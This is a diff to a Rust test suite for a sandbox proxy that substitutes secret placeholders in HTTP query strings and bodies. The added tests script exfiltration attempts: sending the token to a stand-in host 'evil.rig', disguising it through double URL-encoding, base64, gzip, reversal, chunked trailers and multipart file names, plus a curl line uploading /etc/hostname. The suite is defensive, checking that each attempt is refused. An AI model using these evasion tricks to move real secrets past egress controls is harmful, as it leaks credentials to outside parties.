@@ -8,6 +8,7 @@ use base64::engine::general_purpose::STANDARD;
 
 use super::client::{assert_answer, assert_refusals, attack};
 use crate::support::exeat::{Outcome, Run};
+use crate::support::origin::{Origin, Request};
 use crate::support::world::World;
 
 const POLICY: &str = "
@@ -40,7 +41,10 @@ def ask(what, path='/', method='GET', body=b'', host='allowed.rig', address=None
 
 /// Runs a script in a sandbox that holds a placeholder; the secret is nowhere that anybody here can see.
 fn held(world: &World, script: &str) -> Outcome {
-    let run = run(world);
+    tried(world, run(world), script)
+}
+
+fn tried(world: &World, run: Run<'_>, script: &str) -> Outcome {
     let outcome = attack(world, run, &format!("{HELD}{script}"));
     for text in [&outcome.stdout, &outcome.stderr, &outcome.audit] {
         assert!(!text.contains(&key()), "{outcome:#?}");
@@ -49,10 +53,39 @@ fn held(world: &World, script: &str) -> Outcome {
 }
 
 fn run(world: &World) -> Run<'_> {
+    under(world, POLICY)
+}
+
+fn under<'w>(world: &'w World, policy: &str) -> Run<'w> {
     let run = world.run().file("key", key());
-    let policy = POLICY.replace("KEYFILE", run.folder().join("key").to_str().expect("UTF-8"));
+    let policy = policy.replace("KEYFILE", run.folder().join("key").to_str().expect("UTF-8"));
     run.policy(&policy)
 }
+
+/// Rules that have placeholders replaced elsewhere than in headers; another secret's may go to the other origin.
+const REPLACING: &str = "
+version: 1
+allow:
+  allowed.rig:
+    - { match: { path: { startsWith: /query } }, placeholders: { in: [query] } }
+    - { match: { path: { startsWith: /body } }, placeholders: { in: [body] } }
+  evil.rig: [ { placeholders: { in: [query, body] } } ]
+secrets:
+  KEY: { file: KEYFILE, to: [allowed.rig], methods: [GET, POST] }
+  OTHER: { file: KEYFILE, to: [evil.rig] }
+placeholders: { TOKEN: KEY, SECOND: OTHER }
+";
+
+/// What scripts need that send bodies.
+const BODIES: &str = "
+U = os.environ['SECOND']
+FORM, JSON = 'application/x-www-form-urlencoded', 'application/json'
+def post(what, body, path='/body', **fields):
+    ask(what, path=path, method='POST', body=body if isinstance(body, bytes) else body.encode(), **fields)
+def chunked(*pieces, trailers=b'', extension=b''):
+    lines = (b'%x%s\\r\\n%s\\r\\n' % (len(piece), extension, piece) for piece in pieces)
+    return b''.join(lines) + b'0\\r\\n' + trailers + b'\\r\\n'
+";
 
 /// F61: the right header to the right origin, and the origin echoes what it got: the sandbox reads neither.
 #[test]
@@ -251,5 +284,147 @@ fn f69_another_sandboxes_placeholder() {
         let requests = world.allowed.https.requests();
         assert_eq!(requests[0].header("authorization"), [format!("Bearer {other}")]);
         assert!(!outcome.audit.contains("\"injected\""), "{outcome:#?}");
+    });
+}
+
+/// F61: where a rule has it replaced in the query or the body, in every way that clients write one: it arrives there,
+/// over HTTP/1 and HTTP/2, and neither the echo nor the record has it.
+#[test]
+fn f61_where_a_rule_says_so_it_is_replaced_in_the_query_and_the_body() {
+    World::each(|world| {
+        let script = format!(
+            "{HELD}{BODIES}
+ask('query', path='/query?a=' + T + '&b=2')
+ask('escaped', path='/query?a=' + ''.join(f'%{{ord(c):02x}}' for c in T))
+post('json', '{{\"token\": \"' + T.replace('_', '\\\\u005f') + '\"}}', content_type=JSON)
+post('form', 'a=b&token=' + T.replace('_', '%5F'), content_type=FORM)
+cut = T.encode()
+post('chunks', chunked(b'a', *(cut[i:i + 1] for i in range(len(cut))), b'z'), transfer_encoding='chunked')"
+        );
+        let outcome = tried(world, under(world, REPLACING), &script);
+        assert_eq!(outcome.stdout.matches("HTTP/1.1 200").count(), 5, "{outcome:#?}");
+        let curl = "
+curl -s --http2 -G https://allowed.rig/query --data-urlencode token=$TOKEN
+curl -s --http2 https://allowed.rig/body --data-urlencode token=$TOKEN
+curl -s --http2 https://allowed.rig/body -F token=$TOKEN -F file=@/etc/hostname
+curl -s https://allowed.rig/body --json '{\"token\": \"'$TOKEN'\"}' -H 'Expect: 100-continue'";
+        let second = under(world, REPLACING).bash(curl).succeeded();
+        for outcome in [&outcome, &second] {
+            let told = format!("{}{}{}", outcome.stdout, outcome.stderr, outcome.audit);
+            assert!(!told.contains(&key()), "{outcome:#?}");
+        }
+        assert_eq!(second.stdout.matches(&"*".repeat(40)).count(), 4, "its echo is struck out: {second:#?}");
+        let requests = world.allowed.https.requests();
+        let got: Vec<String> = requests
+            .iter()
+            .map(|request| format!("{} {}", request.uri, String::from_utf8_lossy(&request.body)))
+            .collect();
+        assert_eq!(got.len(), 9, "{got:#?}");
+        assert!(got.iter().all(|text| text.matches(&key()).count() == 1), "{got:#?}");
+        for request in requests.iter().filter(|request| !request.header("content-length").is_empty()) {
+            assert_eq!(request.header("content-length"), [request.body.len().to_string()]);
+        }
+        assert!(outcome.audit.contains("\"injected\":[\":query\"]"), "{outcome:#?}");
+        assert!(outcome.audit.contains("\"injected\":[\":body\"]"), "{outcome:#?}");
+    });
+}
+
+/// Fails the test if a request arrived that was not broken off: of such a one the origin has no body.
+#[track_caller]
+fn assert_none_whole(origin: &Origin) {
+    let requests = origin.requests();
+    let is_broken = |request: &Request| request.method == "POST" && request.body.is_empty();
+    assert!(requests.iter().all(is_broken), "{requests:#?}");
+}
+
+/// F61: in a place that the rule does not name, or one that a service shows again, beside one that it does.
+#[test]
+fn f61_where_a_rule_names_the_query_or_the_body_nothing_else_is_replaced() {
+    World::each(|world| {
+        let script = format!(
+            "{HELD}{BODIES}
+ask('query by the other rule', path='/body?a=' + T)
+post('body by the other rule', T, path='/query')
+ask('path', path='/query/' + T + '?a=' + T)
+ask('agent', path='/query?a=' + T, user_agent=T)
+ask('method', path='/query?a=' + T, method=T)
+ask('method not granted', path='/query?a=' + T, method='PUT')
+ask('no rule', path='/?a=' + T)
+ask('too often', path='/query?a=' + '&'.join([T] * 65))
+post('too often', ' '.join([T] * 65))
+head = 'Content-Disposition: form-data; name=\"f\"; filename=\"' + T + '\"'
+post('file name', '--b\\r\\n' + head + '\\r\\n\\r\\nx\\r\\n--b--\\r\\n',
+    content_type='multipart/form-data; boundary=b')
+post('trailer', chunked(T.encode(), trailers=b'x-note: ' + T.encode() + b'\\r\\n'), transfer_encoding='chunked')
+tcp('clear', ALLOWED, 80, request('allowed.rig', '/query?a=' + T))"
+        );
+        let outcome = tried(world, under(world, REPLACING), &script);
+        assert_refusals(&outcome, 12);
+        assert_none_whole(&world.allowed.https);
+        assert_eq!(outcome.audit.matches("placeholder-misdirected").count(), 12, "{outcome:#?}");
+        let within = format!(
+            "{HELD}{BODIES}
+post('extension', chunked(b'x', extension=b';' + T.encode()), transfer_encoding='chunked')
+ask('fragment', path='/query?a=b#' + T)
+print(T)"
+        );
+        let outcome = tried(world, under(world, REPLACING), &within);
+        let held = outcome.stdout.lines().last().expect("the placeholder").to_owned();
+        assert!(!world.allowed.https.inner().contains(&held), "it is sent on: {outcome:#?}");
+        let requests = world.allowed.https.requests();
+        let is_there = |request: &Request| format!("{request:?}").contains(&key());
+        assert!(!requests.iter().any(is_there), "it is replaced: {requests:#?}");
+    });
+}
+
+/// F61: another secret's placeholder, or to an origin that its secret may not go to, though rules replace there.
+#[test]
+fn f61_where_a_rule_replaces_it_does_so_for_what_may_go_there_alone() {
+    World::each(|world| {
+        let script = format!(
+            "{HELD}{BODIES}
+ask('other in the query', path='/query?a=' + U)
+ask('both in the query', path='/query?a=' + T + '&b=' + U)
+post('other in the body', U)
+post('both in the body', T + ' ' + U)
+post('both in JSON', '[\"' + T + '\", \"' + U + '\"]', content_type=JSON)
+def evil(what, **fields):
+    ask(what, host='evil.rig', address=EVIL, **fields)
+evil('query', path='/?a=' + T)
+evil('body', method='POST', body=T.encode())
+evil('chunks', method='POST', body=chunked(T[:9].encode(), T[9:].encode()), transfer_encoding='chunked')"
+        );
+        let outcome = tried(world, under(world, REPLACING), &script);
+        assert_refusals(&outcome, 8);
+        assert_none_whole(&world.allowed.https);
+        assert_none_whole(&world.evil.https);
+        assert!(!world.evil.https.inner().contains("ghp_"), "it was sent on");
+        assert_eq!(outcome.audit.matches("placeholder-misdirected").count(), 8, "{outcome:#?}");
+    });
+}
+
+/// F62: spelled in another way than such a text spells, or compressed, where it may be replaced as it is.
+#[test]
+fn f62_in_another_spelling_where_a_rule_replaces() {
+    World::each(|world| {
+        let script = format!(
+            "{HELD}{BODIES}
+import gzip
+twice = T.replace('_', '%255f')
+ask('twice', path='/query?a=' + twice)
+ask('coded', path='/query?a=' + b64('x' + T))
+post('form twice', 'a=' + twice, content_type=FORM)
+post('escaped in JSON', '[\"' + T.replace('_', '%5f') + '\"]', content_type=JSON)
+post('twice in JSON', '[\"' + T.replace('_', '\\\\\\\\u005f') + '\"]', content_type=JSON)
+post('escaped in text', T.replace('_', '%5f'), content_type='text/plain')
+post('coded in the body', b64('x' + T))
+post('backwards', T[::-1])
+post('compressed', gzip.compress(T.encode()), content_encoding='gzip')
+post('called so', T, content_encoding='identity, br')"
+        );
+        let outcome = tried(world, under(world, REPLACING), &script);
+        assert_refusals(&outcome, 10);
+        assert_none_whole(&world.allowed.https);
+        assert_eq!(outcome.audit.matches("placeholder-misdirected").count(), 10, "{outcome:#?}");
     });
 }
